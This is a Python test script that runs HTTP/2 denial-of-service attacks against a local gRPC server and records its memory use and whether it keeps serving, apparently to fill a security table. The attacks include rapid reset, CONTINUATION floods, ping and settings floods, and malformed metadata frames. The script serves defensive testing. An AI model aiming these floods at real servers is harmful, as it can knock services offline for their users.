"""What gRPC itself lets through: bad frames and floods against a bare server of this Python's gRPC.

The same attacks, run by the Python of either generation, make the table of SECURITY.md:
PYTHONPATH=tests/attack:tests/newer_grpc /usr/bin/python3 tests/newer_grpc/floods.py [ATTACK...]
"""

from __future__ import annotations

import multiprocessing
import signal
import struct
import sys
from collections.abc import Callable
from concurrent import futures
from multiprocessing.connection import Connection as Pipe
from pathlib import Path

import grpc
from http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    call_headers,
    frame,
)

MIB = 1 << 20
PATH = "/a/b"
METADATA = 16384
AT_ONCE = 100

# As rectifierd sets them, where that can be done from here.
OPTIONS = [
    ("grpc.max_concurrent_streams", 100),
    ("grpc.max_metadata_size", METADATA),
    ("grpc.server_handshake_timeout_ms", 10_000),
]


def serve(pipe: Pipe) -> None:
    """A server that answers any method, until it is ended."""

    class Handler(grpc.GenericRpcHandler):  # type: ignore[misc]
        def service(self, _: grpc.HandlerCallDetails) -> grpc.RpcMethodHandler:
            return grpc.unary_unary_rpc_method_handler(lambda request, context: request)

    server = grpc.server(futures.ThreadPoolExecutor(4), [Handler()], options=OPTIONS)
    pipe.send(server.add_insecure_port("127.0.0.1:0"))
    server.start()
    signal.pause()


class Victim:
    """A server in a process of its own."""

    def __init__(self) -> None:
        ours, theirs = multiprocessing.Pipe()
        self.process = multiprocessing.get_context("spawn").Process(target=serve, args=(theirs,))
        self.process.start()
        self.target = f"127.0.0.1:{ours.recv()}"
        self.is_serving()
        self.before = self.memory("VmRSS")

    def memory(self, field: str) -> int:
        lines = Path(f"/proc/{self.process.pid}/status").read_text().splitlines()
        return int(next(line for line in lines if line.startswith(field)).split()[1]) * 1024

    def is_serving(self) -> bool:
        """Whether a polite call on a new connection is answered."""
        with grpc.insecure_channel(self.target) as channel:
            try:
                return channel.unary_unary(PATH)(b"hi", timeout=60, wait_for_ready=True) == b"hi"
            except grpc.RpcError:
                return False

    def end(self) -> None:
        self.process.kill()
        self.process.join()


def heads(fields: bytes = b"", stream: int = 1) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, call_headers(PATH) + fields)


def indexed(name: bytes, value: bytes) -> bytes:
    """A field that enters the table of both sides (RFC 7541, section 6.2.1)."""
    return b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value


# The first field that entered the table.
FIRST_INDEXED = b"\xbe"
PAST_8_KB = b"\x00\x01x\x7f\xa9\x45" + b"a" * 9_000


def large(fields: bytes = b"") -> bytes:
    """Metadata of more than METADATA, which ends with the fields."""
    begun = frame(HEADERS, 0, 1, call_headers(PATH) + PAST_8_KB)
    return begun + frame(CONTINUATION, END_HEADERS, 1, PAST_8_KB + fields)


def reset(first: int) -> bytes:
    cancel = struct.pack(">I", 8)
    return b"".join(
        heads(stream=stream) + frame(RST_STREAM, 0, stream, cancel)
        for stream in range(2 * first + 1, 2 * (first + AT_ONCE) + 1, 2)
    )


def same(piece: bytes) -> Callable[[int], bytes]:
    return lambda _: piece * AT_ONCE


BEGUN = frame(HEADERS, 0, 1, call_headers(PATH))
FIELD = b"\x00\x08x-attack" + b"\x7f\x81\x3e" + bytes(8064)
# A field that says that its value has 256 MiB.
ENDLESS = frame(HEADERS, 0, 1, call_headers(PATH) + b"\x00\x01x\x7f\x81\xff\xff\x7f")

# Each attack: what is said first, what then again and again, and how often.
FLOODS: dict[str, tuple[bytes, Callable[[int], bytes], int]] = {
    "rapid reset": (b"", reset, 20_000),
    "CONTINUATION, small fields": (BEGUN, same(frame(CONTINUATION, 0, 1, b"\0\1a\1b")), 100_000),
    "CONTINUATION, large fields": (BEGUN, same(frame(CONTINUATION, 0, 1, FIELD)), 8_000),
    "CONTINUATION, empty": (BEGUN, same(frame(CONTINUATION, 0, 1)), 200_000),
    "a field without end": (ENDLESS, same(frame(CONTINUATION, 0, 1, bytes(8192))), 8_000),
    "SETTINGS": (b"", same(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))), 100_000),
    "PING": (b"", same(frame(PING, 0, 0, bytes(8))), 100_000),
    "WINDOW_UPDATE": (heads(), same(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")), 200_000),
    "empty DATA": (heads(), same(frame(DATA, 0, 1)), 200_000),
}

# Frames that a peer sends once: what follows must find the connection open.
FRAMES = {
    "te: x": frame(HEADERS, END_HEADERS, 1, call_headers(PATH, te="x") + PAST_8_KB),
    "grpclb_client_stats: x": heads(b"\x00\x13grpclb_client_stats\x01x" + PAST_8_KB),
    "metadata too large": large(),
    "-bin that is no base64": heads(b"\x00\x05x-bin\x01!"),
    "the same, indexed, and used": heads(indexed(b"x-bin", b"!")) + heads(FIRST_INDEXED, stream=3),
    "metadata too large, then an index": large(indexed(b"y", b"z"))
    + heads(FIRST_INDEXED, stream=3),
}


def pour(peer: Connection, pieces: Callable[[int], bytes], count: int) -> int:
    """Gives how many were sent until the server hung up, or took no more for a while."""
    for sent in range(0, count, AT_ONCE):
        try:
            peer.send(pieces(sent))
        except OSError:
            return sent
    return count


def report(name: str, victim: Victim, outcome: str) -> None:
    is_serving = victim.is_serving()
    is_alive = victim.process.is_alive()
    peak = (victim.memory("VmHWM") - victim.before) / MIB if is_alive else float("nan")
    fate = "serves the others" if is_serving else "does not answer the others for a minute"
    if not is_alive:
        fate = "has crashed"
    print(f"{name} | {outcome} | {peak:.0f} MiB | {fate}", flush=True)
    victim.end()


def flood(name: str) -> None:
    first, pieces, count = FLOODS[name]
    victim = Victim()
    with Connection(victim.target) as peer:
        peer.settings()
        peer.socket.settimeout(20)
        peer.send(first)
        sent = pour(peer, pieces, count)
        is_open = sent == count and (pieces(0)[3] == CONTINUATION or peer.ping())
        report(name, victim, f"{'' if is_open else 'hung up, '}{sent} of {count} sent")


def say(name: str) -> None:
    victim = Victim()
    with Connection(victim.target) as peer:
        peer.settings()
        peer.send(FRAMES[name])
        report(name, victim, "stays open" if peer.ping() else "hung up")


def main() -> None:
    print(f"gRPC {grpc.__version__}")
    chosen = sys.argv[1:] or [*FRAMES, *FLOODS]
    for name in chosen:
        (say if name in FRAMES else flood)(name)


if __name__ == "__main__":
    main()
